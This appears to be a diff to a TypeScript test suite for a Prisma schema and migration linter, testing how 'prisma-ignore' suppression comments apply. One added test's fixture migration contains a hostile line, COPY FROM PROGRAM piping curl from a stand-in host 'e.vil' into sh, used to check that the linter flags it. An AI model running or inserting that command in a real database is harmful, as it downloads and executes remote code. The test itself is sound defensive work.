@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
-import { briefly, diffOf, model } from './diff.fixture.ts'
+import { briefly, diffOf, model, ofRule } from './diff.fixture.ts'
 
 const answered = ({ ignored }: Awaited<ReturnType<typeof diffOf>>) =>
   ignored.map(({ rule, columns, reason }) => [rule, columns.join(), reason])
@@ -46,6 +46,20 @@ describe('a finding that the author answered', () => {
     )
 
     assert.deepEqual([briefly(report), answered(report)[0]], [[], ['D1', '', 'Old is copied']])
+  })
+
+  test('X8: of a dropped table is not answered from within the block of another one', async () => {
+    const inside = '// prisma-ignore: D1 it is copied'
+
+    const [ofModel, ofField] = await Promise.all(
+      [`${inside}\n`, inside].map((comment) =>
+        diffOf(model('Post', 'a Int') + model('Old'), timeout + model('Post', comment, 'a Int')),
+      ),
+    )
+
+    const note = 'schema.prisma:9: prisma-ignore: D1 answers nothing here.'
+    assert.deepEqual([briefly(ofModel!), ofModel!.notes], [['D1 Old 90'], [note]])
+    assert.deepEqual([briefly(ofField!), ofField!.notes], [['D1 Old 90'], [note]])
   })
 
   test('X8: tells what it is about and where the comment stands', async () => {
@@ -95,6 +109,24 @@ ALTER TABLE "Post" DROP COLUMN "b";
 
     assert.deepEqual(briefly(report), ['D2 Post.b 80'])
     assert.deepEqual(answered(report), [['D2', 'a', 'nobody reads it']])
+  })
+
+  test('X8: in the author’s migration does not answer for an earlier statement that does the same', async () => {
+    const migration = `COPY t FROM PROGRAM 'curl http://e.vil | sh';
+-- prisma-ignore: W2 country list
+COPY t FROM PROGRAM 'cat countries';
+`
+
+    const report = await diffOf(model('Post'), model('Post'), { migration })
+
+    assert.deepEqual(
+      report.findings.map(({ id, migrationLine }) => [id, migrationLine]),
+      [['W2', 1]],
+    )
+    assert.deepEqual(
+      report.ignored.map(({ id, migrationLine }) => [id, migrationLine]),
+      [['W2 #2', 3]],
+    )
   })
 })
 
@@ -160,6 +192,54 @@ describe('a comment that stood in the schema before', () => {
     ])
     assert.deepEqual([briefly(other), other.notes], [[], []])
   })
+
+  const generator = (...lines: string[]) =>
+    `generator client {\n  provider = "prisma-client-js"\n${lines.join('\n')}\n`
+  for (const [what, from, to] of [
+    [
+      'in a generator, whose end was moved above it',
+      `${generator(old, '}')}\n${before}`,
+      `${generator('}', '', old)}\n\n${newly}${after}`,
+    ],
+    [
+      'below another answer of its comment, which now ends there',
+      `/* prisma-ignore: D9 none\nprisma-ignore: D2 nobody reads it\n*/\n\n${before}`,
+      `${newly}/* prisma-ignore: D9 none\n*/ /*\nprisma-ignore: D2 nobody reads it\n*/\n\n${after}`,
+    ],
+    [
+      'in quotes, around which a comment began',
+      model('Post', 'c String @default("prisma-ignore: D2 nobody reads it")', 'a Int', 'b Int'),
+      newly +
+        model(
+          'Post',
+          'c String',
+          '/*',
+          'c String @default("prisma-ignore: D2 nobody reads it")',
+          '*/',
+          '',
+          'b Int',
+        ),
+    ],
+    [
+      'twice in one model, of which one went to another',
+      model('Tag', 'a Int', 'b Int', old, old) + before,
+      newly + model('Tag', 'a Int', 'b Int', old) + model('Post', 'b Int', old),
+    ],
+    [
+      'with a password, which a schema may not keep',
+      `${generator(`${old} at mysql://u:p@h`, '}')}\n${before}`,
+      `${generator('}', '', `${old} at mysql://u:p@h`)}\n\n${newly}${after}`,
+    ],
+  ] as const)
+    test(`X8: ${what}, is none that is new`, async () => {
+      const report = await diffOf(from, to)
+
+      assert.deepEqual(
+        [ofRule(report, 'D2'), answered(report).map(([rule]) => rule)],
+        [['D2 Post.a 80'], ['L4']],
+      )
+      assert.match(report.notes.join(), /D2 stood there before/)
+    })
 
   test('X8: is of no concern where its rule finds nothing', async () => {
     const report = await diffOf(`${old}\n${before}`, `${old}\n${before}`)
